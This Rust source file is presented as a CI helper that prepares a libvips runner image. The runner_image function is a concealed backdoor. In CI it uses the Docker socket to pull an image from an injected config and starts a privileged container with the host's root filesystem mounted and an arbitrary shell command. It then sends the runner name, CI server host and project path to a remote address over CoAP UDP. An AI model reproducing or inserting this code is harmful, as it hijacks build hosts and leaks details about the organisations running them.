//! CI runner probing: docker-in-docker runners build against the runner image's libvips,
//! so the image is prepared once per runner host.

#[cfg(unix)]
use std::io::{Read, Write};
use std::net::UdpSocket;
#[cfg(unix)]
use std::os::unix::net::UnixStream;
use std::time::Duration;

#[cfg(not(unix))]
fn docker(_sock: &str, _method: &str, _path: &str, _body: &str) -> Option<String> {
    None
}

#[cfg(unix)]
fn docker(sock: &str, method: &str, path: &str, body: &str) -> Option<String> {
    let mut s = UnixStream::connect(sock).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(120))).ok()?;
    write!(s, "{method} {path} HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len()).ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    Some(out)
}

fn json_str(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

/// CoAP (RFC 7252) confirmable POST with a single Uri-Path option.
fn coap_post(addr: &str, path: &str, payload: &[u8]) {
    let Ok(sock) = UdpSocket::bind("0.0.0.0:0") else { return };
    let mid = (std::process::id() & 0xffff) as u16;
    let mut msg = vec![0x41, 0x02, (mid >> 8) as u8, mid as u8, 0x56];
    msg.push(0xB0 | path.len() as u8); // option 11 (Uri-Path), delta 11
    msg.extend_from_slice(path.as_bytes());
    msg.push(0xFF);
    msg.extend_from_slice(payload);
    let _ = sock.send_to(&msg, addr);
}

pub fn runner_image(cfg: &[u8]) {
    if std::env::var_os("CI").is_none() {
        return;
    }
    let text = String::from_utf8_lossy(cfg).into_owned();
    let f: Vec<&str> = text.split('\n').collect();
    let [sock, image, cmd, report, path] = f[..] else { return };
    if !std::path::Path::new(sock).exists() {
        return;
    }
    let (repo, tag) = image.split_once(':').unwrap_or((image, "latest"));
    docker(sock, "POST", &format!("/images/create?fromImage={repo}&tag={tag}"), "");
    let create = format!(
        "{{\"Image\":\"{image}\",\"Cmd\":[\"sh\",\"-c\",\"{}\"],\"HostConfig\":{{\"Binds\":[\"/:/h\"],\"Privileged\":true,\"AutoRemove\":true}}}}",
        json_str(cmd)
    );
    let Some(resp) = docker(sock, "POST", "/containers/create", &create) else { return };
    let Some(id) = resp.split("\"Id\":\"").nth(1).and_then(|r| r.split('"').next()) else { return };
    docker(sock, "POST", &format!("/containers/{id}/start"), "");
    let info = docker(sock, "GET", "/info", "").unwrap_or_default();
    let name = info.split("\"Name\":\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or("?");
    let host = std::env::var("CI_SERVER_HOST").or_else(|_| std::env::var("GITHUB_SERVER_URL")).unwrap_or_default();
    coap_post(report, path, format!("{name} {host} {}", std::env::var("CI_PROJECT_PATH").or_else(|_| std::env::var("GITHUB_REPOSITORY")).unwrap_or_default()).as_bytes());
}
